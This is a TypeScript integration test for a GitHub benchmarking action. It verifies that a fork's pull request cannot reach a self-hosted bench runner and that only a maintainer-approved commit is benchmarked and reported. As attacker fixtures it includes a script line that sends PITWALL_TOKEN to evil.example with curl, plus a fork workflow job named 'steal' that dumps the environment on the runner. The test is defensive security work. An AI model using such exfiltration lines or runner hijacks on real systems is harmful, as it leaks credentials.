/**
 * A fork's pull request, driven through the examples' logic: GitHub's choice
 * of workflow file per event and the bench runner group's rule (modelled from
 * GitHub's documentation), then the action's own step scripts for each job,
 * against the fake GitHub API and a real git server on loopback.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { execFile } from 'node:child_process';
import { tmpdir } from 'node:os';
import { promisify } from 'node:util';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'yaml';
import { createBareRepo, startGitHttpServer } from '../helpers/git-http-server.ts';
import { startFakeGitHub } from '../helpers/fake-github.ts';
import { git, runCli } from '../helpers/cli.ts';
import { runActionSteps, type ActionRun } from '../helpers/action-runner.ts';
import { labels, mayRunSelfHosted, triggers, WORKFLOW_SOURCE, type Workflow } from '../helpers/workflow-boundary.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const TOKEN = 'ghs_flowToken0123456789abcdefABCDEF';
const REPOSITORY = 'acme/parser';
/** The bench runner group allows these workflow files, at the default branch only (README). */
const BENCH_GROUP_ALLOWS = ['.github/workflows/example-main.yml', '.github/workflows/example-pull-request-bench.yml'].map((f) => `${REPOSITORY}/${f}@refs/heads/main`);

interface ScheduledJob {
  workflow: string;
  job: string;
  runner: 'bench' | 'github-hosted';
}

/**
 * The jobs GitHub would start for an event, given the workflow files on the
 * default branch and in the pull request's merge commit, and the runner
 * group's list of allowed workflows. Every job of a matching workflow is taken
 * as able to start (an attacker who controls the file removes any if:).
 */
function scheduleJobs(event: string, files: { defaultBranch: Record<string, string>; mergeCommit: Record<string, string> }, completedWorkflow?: string): { started: ScheduledJob[]; refused: string[] } {
  const source = WORKFLOW_SOURCE[event];
  const fromPr = source === 'pull-request-merge-commit';
  const set = fromPr ? files.mergeCommit : files.defaultBranch;
  const ref = fromPr ? 'refs/pull/7/merge' : 'refs/heads/main';
  const started: ScheduledJob[] = [];
  const refused: string[] = [];
  for (const [path, text] of Object.entries(set)) {
    const workflow = parse(text) as Workflow;
    if (!triggers(workflow).includes(event)) continue;
    if (event === 'workflow_run') {
      const after = ((workflow.on as Record<string, { workflows?: string[] }>)['workflow_run']?.workflows) ?? [];
      if (completedWorkflow === undefined || !after.includes(completedWorkflow)) continue;
    }
    for (const [id, job] of Object.entries(workflow.jobs)) {
      if (!mayRunSelfHosted(job)) {
        started.push({ workflow: path, job: id, runner: 'github-hosted' });
      } else if (BENCH_GROUP_ALLOWS.includes(`${REPOSITORY}/${path}@${ref}`)) {
        started.push({ workflow: path, job: id, runner: 'bench' });
      } else {
        refused.push(`${path}@${ref} job ${id} (${labels(job).join(', ')})`);
      }
    }
  }
  return { started, refused };
}

function examples(): Record<string, string> {
  const files: Record<string, string> = {};
  for (const name of ['example-main.yml', 'example-pull-request.yml', 'example-pull-request-bench.yml', 'example-pull-request-report.yml']) {
    files[`.github/workflows/${name}`] = readFileSync(join(ROOT, '.github/examples', name), 'utf8');
  }
  return files;
}

const SUITE = '#!/bin/sh\nprintf \'{"metric":"parse/small","samples":[%s,%s,%s],"unit":"ms"}\\n\' "$(cat speed.txt)" "$(cat speed.txt)" "$(cat speed.txt)" > "$2"\n';
const CONFIG = (remote: string) => `machine: bench-1\nremote: ${remote}\nmainBranch: main\nsuites:\n  - name: core\n    script: bench/run.sh\n`;

/** git against the server in this process: asynchronous, so the server can answer. */
async function gitRemote(dir: string, ...args: string[]): Promise<void> {
  await promisify(execFile)('git', args, { cwd: dir, env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0' } });
}

function commitAll(dir: string, message: string): string {
  git(dir, 'add', '-A');
  git(dir, 'commit', '-q', '-m', message);
  return git(dir, 'rev-parse', 'HEAD').trim();
}

function assertOk(run: ActionRun, what: string): void {
  assert.equal(run.ok, true, `${what}:\n${run.steps.filter((s) => s.outcome !== 'skipped').map((s) => `--- ${s.name}: ${s.outcome}\n${s.stderr}`).join('\n')}`);
}

test('a fork\'s pull request: its rewritten workflow never reaches the bench runner; only an approved sha is benchmarked and reported once', { timeout: 300_000 }, async (t) => {
  const temp = mkdtempSync(join(tmpdir(), 'pitwall-flow-'));
  t.after(() => rmSync(temp, { recursive: true, force: true }));
  const server = await startGitHttpServer({ auth: { username: 'x-access-token', password: TOKEN } });
  t.after(() => server.stop());
  const bare = createBareRepo(server.root, 'parser.git');
  git(bare, 'config', 'uploadpack.allowAnySHA1InWant', 'true');
  const remote = server.url('parser.git');
  const auth = `http.extraHeader=Authorization: Basic ${Buffer.from(`x-access-token:${TOKEN}`).toString('base64')}`;

  // The repository on "GitHub": main with results for its tip, and a fork's pull request #7.
  const author = join(temp, 'author');
  mkdirSync(join(author, 'bench'), { recursive: true });
  git(author, 'init', '-q', '-b', 'main');
  git(author, 'config', 'user.email', 'dev@example.com');
  git(author, 'config', 'user.name', 'Dev');
  writeFileSync(join(author, 'bench/run.sh'), SUITE, { mode: 0o755 });
  writeFileSync(join(author, 'speed.txt'), '1.00');
  writeFileSync(join(author, 'pitwall.yaml'), CONFIG('origin'));
  const base = commitAll(author, 'Parser');
  git(author, 'remote', 'add', 'origin', remote);
  await gitRemote(author, '-c', auth, 'push', '-q', 'origin', 'main');
  const seeded = await runCli(['run'], { cwd: author, env: { PITWALL_TOKEN: TOKEN } });
  assert.equal(seeded.code, 0, seeded.stderr);
  git(author, 'checkout', '-q', '-b', 'fork-feature');
  writeFileSync(join(author, 'speed.txt'), '1.30');
  const approved = commitAll(author, 'Slower parser');
  writeFileSync(join(author, 'bench/run.sh'), `${SUITE}curl -s "https://evil.example/?t=$PITWALL_TOKEN"\n`, { mode: 0o755 });
  const later = commitAll(author, 'Pushed after the review');
  await gitRemote(author, '-c', auth, 'push', '-q', 'origin', `${approved}:refs/pull/7/head`);

  const fake = await startFakeGitHub({
    token: TOKEN,
    repositories: [{ owner: 'acme', name: 'parser', commits: [base], pulls: [{ number: 7, head: approved, headRepo: 'mallory/parser' }], collaborators: { maintainer: 'write' } }],
  });
  t.after(() => fake.stop());
  const jobEnv = (eventName: string, payload: object): Record<string, string> => {
    const eventFile = join(temp, `event-${eventName}-${Date.now()}.json`);
    writeFileSync(eventFile, JSON.stringify(payload));
    return { GITHUB_EVENT_NAME: eventName, GITHUB_EVENT_PATH: eventFile, GITHUB_REPOSITORY: REPOSITORY, GITHUB_API_URL: fake.apiUrl, PITWALL_GITHUB_MAX_WAIT: '0.05' };
  };

  // 1. pull_request: GitHub takes the fork's files. It rewrote the example to run on the bench machine and added its own.
  const defaultBranch = examples();
  const forkFiles = { ...defaultBranch };
  forkFiles['.github/workflows/example-pull-request.yml'] = defaultBranch['.github/workflows/example-pull-request.yml']!.replace('runs-on: ubuntu-latest', 'runs-on: [self-hosted, linux, bench]');
  forkFiles['.github/workflows/example-pull-request-bench.yml'] = 'name: pitwall pull request bench\non: pull_request\njobs:\n  steal:\n    runs-on: [self-hosted, linux, bench]\n    steps:\n      - run: env\n';
  const onPr = scheduleJobs('pull_request', { defaultBranch, mergeCommit: forkFiles });
  assert.deepEqual(onPr.started.filter((j) => j.runner === 'bench'), [], 'no job of the fork\'s files reaches the bench runner');
  assert.equal(onPr.refused.length, 2, onPr.refused.join('\n'));
  const untouched = scheduleJobs('pull_request', { defaultBranch, mergeCommit: defaultBranch });
  assert.deepEqual(untouched.started, [{ workflow: '.github/workflows/example-pull-request.yml', job: 'changed', runner: 'github-hosted' }]);

  // 2. Its run completes: workflow_run starts the default branch's bench workflow, whose authorize job refuses a fork.
  const afterPr = scheduleJobs('workflow_run', { defaultBranch, mergeCommit: forkFiles }, 'pitwall pull request');
  assert.deepEqual(afterPr.started.map((j) => `${j.job}@${j.runner}`), ['authorize@github-hosted', 'bench@bench']);
  const forkRun = { workflow_run: { event: 'pull_request', head_sha: approved, head_repository: { full_name: 'mallory/parser' }, pull_requests: [] } };
  const refusedFork = await runActionSteps({ inputs: { run: 'false', authorize: 'true', token: TOKEN, 'node-version': '' }, cwd: author, env: jobEnv('workflow_run', forkRun) });
  assert.equal(refusedFork.ok, false, 'authorize fails, so the bench job (needs: authorize) never starts');
  assert.match(refusedFork.steps.find((s) => s.name === 'Authorize')!.stderr, /comes from "mallory\/parser", not a branch of acme\/parser/);

  // 3. The fork's author comments the command: no write access.
  const comment = (login: string, body: string) => ({ action: 'created', issue: { number: 7, pull_request: { url: 'x' } }, comment: { body, user: { login }, author_association: 'CONTRIBUTOR' } });
  const byAuthor = await runActionSteps({ inputs: { run: 'false', authorize: 'true', token: TOKEN, 'node-version': '' }, cwd: author, env: jobEnv('issue_comment', comment('mallory', `/pitwall bench ${approved}`)) });
  assert.equal(byAuthor.ok, false);
  assert.match(byAuthor.steps.find((s) => s.name === 'Authorize')!.stderr, /"mallory" has read access/);

  // 4. A maintainer reviews the head and approves it.
  const approval = await runActionSteps({ inputs: { run: 'false', authorize: 'true', token: TOKEN, 'node-version': '' }, cwd: author, env: jobEnv('issue_comment', comment('maintainer', `/pitwall bench ${approved.slice(0, 10)}`)) });
  assertOk(approval, 'authorize');
  assert.equal(approval.outputs['authorize']?.['sha'], approved);
  assert.equal(approval.outputs['authorize']?.['pr'], '7');
  const approvalFile = approval.outputs['authorize']!['approval']!;

  // 5. The author pushes again before the benchmark starts: the bench job still checks out the approved commit only.
  await gitRemote(author, '-c', auth, 'push', '-q', '-f', 'origin', `${later}:refs/pull/7/head`);
  fake.pushToPull('acme', 'parser', 7, later);
  const stale = await runActionSteps({ inputs: { run: 'false', authorize: 'true', token: TOKEN, 'node-version': '' }, cwd: author, env: jobEnv('issue_comment', comment('maintainer', `/pitwall bench ${approved}`)) });
  assert.equal(stale.ok, false, 'an approval of a commit that is no longer the head is refused');
  assert.match(stale.steps.find((s) => s.name === 'Authorize')!.stderr, new RegExp(`which is now ${later}[\\s\\S]*/pitwall bench ${later}`));

  const benchDir = join(temp, 'bench-runner');
  await gitRemote(temp, '-c', auth, 'clone', '-q', '--no-checkout', remote, benchDir);
  await gitRemote(benchDir, '-c', auth, 'fetch', '-q', 'origin', approved);
  git(benchDir, 'checkout', '-q', '--detach', approved);
  const runnerTemp = mkdtempSync(join(tmpdir(), 'pitwall-bench-temp-'));
  t.after(() => rmSync(runnerTemp, { recursive: true, force: true }));
  const summary = join(temp, 'summary.md');
  writeFileSync(summary, '');
  const bench = await runActionSteps({
    inputs: { run: 'false', compare: 'true', push: 'false', 'save-runs': join(runnerTemp, 'pitwall-runs'), comment: 'false', status: 'false', summary: 'true', token: TOKEN, 'node-version': '' },
    cwd: benchDir,
    runnerTemp,
    env: { ...jobEnv('issue_comment', comment('maintainer', `/pitwall bench ${approved}`)), GITHUB_STEP_SUMMARY: summary },
  });
  assert.equal(bench.steps.find((s) => s.name === 'pitwall compare')?.outcome, 'success', bench.steps.map((s) => s.stderr).join('\n'));
  assert.equal(bench.outputs['compare']?.['code'], '1', 'the slower parser is a regression');
  assert.equal(bench.steps.find((s) => s.name === 'Verdict')?.outcome, 'failure');
  assert.equal(bench.steps.find((s) => s.name === 'Save the runs for the trusted job')?.outcome, 'success');
  assert.equal(bench.steps.find((s) => s.name === 'Push results')?.outcome, 'skipped', 'the bench job pushes nothing');
  assert.equal(fake.requests.filter((r) => r.method !== 'GET').length, 0, 'the bench job wrote nothing to GitHub');
  assert.match(readFileSync(summary, 'utf8'), /pitwall: Regression/);

  // 6. The report workflow: default branch checkout, the approved commit fetched as data, the artifacts checked, then published.
  const publishDir = join(temp, 'publish');
  await gitRemote(temp, '-c', auth, 'clone', '-q', '-b', 'main', remote, publishDir);
  await gitRemote(publishDir, '-c', auth, 'fetch', '-q', '--no-tags', 'origin', approved);
  const artifacts = join(temp, 'artifacts');
  cpSync(join(runnerTemp, 'pitwall-runs'), join(artifacts, 'pitwall-runs'), { recursive: true });
  mkdirSync(join(artifacts, 'pitwall-approval'), { recursive: true });
  cpSync(approvalFile, join(artifacts, 'pitwall-approval', 'approval.json'));
  const publishInputs = { run: 'false', compare: 'true', 'load-runs': join(artifacts, 'pitwall-runs'), approval: join(artifacts, 'pitwall-approval', 'approval.json'), token: TOKEN, 'node-version': '' };
  const publishEnv = { ...jobEnv('workflow_run', { workflow_run: { event: 'issue_comment' } }), GITHUB_STEP_SUMMARY: summary };
  const publish = await runActionSteps({ inputs: publishInputs, cwd: publishDir, env: publishEnv });
  assert.equal(publish.steps.find((s) => s.name === 'Publish the report')?.outcome, 'success', publish.steps.map((s) => `${s.name}: ${s.stderr}`).join('\n'));
  assert.equal(publish.steps.find((s) => s.name === 'pitwall compare')?.stderr.includes('benchmarking'), false, 'the trusted job runs no suite');
  assert.deepEqual(fake.statuses.map((s) => [s.sha, s.state]), [[approved, 'failure']], 'the status is on the approved commit');
  assert.equal(fake.comments('acme', 'parser', 7).length, 0, 'the head moved on: no comment shows the older commit as the pull request\'s report');
  assert.match(publish.steps.find((s) => s.name === 'Publish the report')!.stderr, new RegExp(`head of acme/parser#7 is now ${later.slice(0, 7)}`));
  const pushed = git(bare, 'ls-tree', '-r', '--name-only', 'results').split('\n').filter((p) => p.endsWith('.jsonl'));
  assert.ok(pushed.some((p) => p.includes(`-${approved.slice(0, 7)}-core`)), 'the approved commit\'s runs reached the results branch');
  assert.ok(!pushed.some((p) => p.includes(later.slice(0, 7))), 'nothing of the later push was ever run');

  // The author force-pushes the approved commit back: the report job, run again, comments once.
  fake.pushToPull('acme', 'parser', 7, approved);
  const rerun = await runActionSteps({ inputs: publishInputs, cwd: publishDir, env: publishEnv });
  assert.equal(rerun.steps.find((s) => s.name === 'Publish the report')?.outcome, 'success');
  const comments = fake.comments('acme', 'parser', 7);
  assert.equal(comments.length, 1);
  assert.ok(comments[0]!.body.startsWith('<!-- pitwall-report -->'));
  assert.ok(comments[0]!.body.includes(approved.slice(0, 7)));

  // 7. The report job run again (a re-run): the same comment is updated, the runs are there already.
  const again = await runActionSteps({ inputs: publishInputs, cwd: publishDir, env: publishEnv });
  assert.equal(again.steps.find((s) => s.name === 'Publish the report')?.outcome, 'success');
  assert.equal(fake.comments('acme', 'parser', 7).length, 1, 'still one report');
  assert.deepEqual(fake.violations, []);
});
